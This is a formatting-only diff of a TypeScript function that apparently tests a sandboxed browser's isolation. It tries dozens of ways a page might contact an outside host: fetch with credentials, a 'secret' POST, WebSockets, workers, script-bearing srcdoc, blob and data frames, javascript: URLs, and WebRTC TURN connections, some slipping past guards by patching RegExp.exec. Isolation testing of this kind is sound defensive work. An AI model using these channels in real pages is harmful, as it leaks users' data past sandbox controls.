@@ -1,8 +1,8 @@
 /// <reference lib="dom" />
 
 /**
- * Runs in a desktop's page: every way we know by which a page could make the browser speak to someone. `outside` is a host and port.
- * One function without imports: it is sent to the browser as text.
+ * Runs in a desktop's page: every way we know by which a page could make the browser speak to someone. `outside` is a
+ * host and port. One function without imports: it is sent to the browser as text.
  */
 export async function tryWaysOut(outside: string, udpPort: number): Promise<Record<string, string>> {
   const address = `http://${outside}`
@@ -20,14 +20,18 @@ export async function tryWaysOut(outside: string, udpPort: number): Promise<Reco
   const peer = async (realm: Realm | typeof globalThis) => {
     const Peer = (realm as Realm)['RTCPeerConnection'] as typeof RTCPeerConnection
     const made = new Peer({
-      iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }, { urls: `turn:${outside}?transport=tcp`, username: 'chosen', credential: 'bytes' }],
+      iceServers: [
+        { urls: `stun:127.0.0.1:${udpPort}` },
+        { urls: `turn:${outside}?transport=tcp`, username: 'chosen', credential: 'bytes' },
+      ],
     })
     made.createDataChannel('out')
     await made.setLocalDescription(await made.createOffer())
   }
   const ways: Record<string, () => unknown> = {
     'fetch': () => fetch(`${address}/fetch`),
-    'fetch without an answer': () => fetch(`${address}/no-cors`, { mode: 'no-cors', credentials: 'include', keepalive: true }),
+    'fetch without an answer': () =>
+      fetch(`${address}/no-cors`, { mode: 'no-cors', credentials: 'include', keepalive: true }),
     'post': () => fetch(`${address}/post`, { method: 'POST', mode: 'no-cors', body: 'secret' }),
     'request': () => {
       const request = new XMLHttpRequest()
@@ -48,9 +52,11 @@ export async function tryWaysOut(outside: string, udpPort: number): Promise<Reco
     'module': () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)(`import('${address}/module')`),
     'style sheet': () => element('link', { rel: 'stylesheet', href: `${address}/sheet` }, document.head),
     'style import': () => (element('style', {}).textContent = `@import "${address}/import";`),
-    'style background': () => (element('style', {}).textContent = `body { background-image: url("${address}/background") }`),
+    'style background': () =>
+      (element('style', {}).textContent = `body { background-image: url("${address}/background") }`),
     'font': () => {
-      element('style', {}).textContent = `@font-face { font-family: out; src: url("${address}/font") } #out { font-family: out }`
+      element('style', {}).textContent =
+        `@font-face { font-family: out; src: url("${address}/font") } #out { font-family: out }`
       element('p', { id: 'out' }).textContent = 'text'
       return document.fonts.load('12px out')
     },
@@ -84,8 +90,12 @@ export async function tryWaysOut(outside: string, udpPort: number): Promise<Reco
     'script in a worker': () => worker(`importScripts('${address}/import-scripts')`),
     'socket in a worker': () => worker(`new WebSocket('ws://${outside}/worker-socket')`),
     'fetch in an empty frame': () => child({}).fetch(`${address}/in-empty-frame`),
-    'fetch in a frame of text': () => child({ srcdoc: `<script>fetch('${address}/in-srcdoc')</script><img src="${address}/srcdoc-image">` }),
-    'frame from a blob': () => child({ src: URL.createObjectURL(new Blob([`<script>fetch('${address}/in-blob')</script>`], { type: 'text/html' })) }),
+    'fetch in a frame of text': () =>
+      child({ srcdoc: `<script>fetch('${address}/in-srcdoc')</script><img src="${address}/srcdoc-image">` }),
+    'frame from a blob': () =>
+      child({
+        src: URL.createObjectURL(new Blob([`<script>fetch('${address}/in-blob')</script>`], { type: 'text/html' })),
+      }),
     'frame of data': () => child({ src: `data:text/html,<script>fetch('${address}/in-data')</script>` }),
     'preconnect': () => element('link', { rel: 'preconnect', href: address }, document.head),
     'preconnect of an element in its place': () => {
@@ -93,10 +103,12 @@ export async function tryWaysOut(outside: string, udpPort: number): Promise<Reco
       link.href = `${address}/late`
       link.rel = 'preconnect'
     },
-    'refresh by an element': () => element('meta', { 'http-equiv': 'refresh', 'content': `0;url=${address}/refresh-element` }, document.head),
+    'refresh by an element': () =>
+      element('meta', { 'http-equiv': 'refresh', 'content': `0;url=${address}/refresh-element` }, document.head),
     'page by javascript': () => void (location.href = `javascript:'<script>fetch("${address}/javascript")</script>'`),
     'peer connection': () => peer(globalThis),
-    'peer connection of another name': () => peer({ RTCPeerConnection: (globalThis as unknown as Realm)['webkitRTCPeerConnection'] }),
+    'peer connection of another name': () =>
+      peer({ RTCPeerConnection: (globalThis as unknown as Realm)['webkitRTCPeerConnection'] }),
     'peer in an empty frame': () => peer(child({})),
     'peer in a frame of text': () => peer(child({ srcdoc: '<p>' })),
     'peer in a frame by its number': () => {
@@ -141,7 +153,8 @@ export async function tryWaysOut(outside: string, udpPort: number): Promise<Reco
       for (const piece of ['<ifr', 'ame></iframe>']) write.call(document, piece)
       return peer(window[0] as unknown as Realm)
     },
-    'peer in an object': () => peer((element('object', { data: 'about:blank' }) as HTMLObjectElement).contentWindow as unknown as Realm),
+    'peer in an object': () =>
+      peer((element('object', { data: 'about:blank' }) as HTMLObjectElement).contentWindow as unknown as Realm),
     'peer in a frame behind an exchanged guard': () => {
       const patterns = RegExp.prototype as { exec: unknown }
       const { exec } = patterns
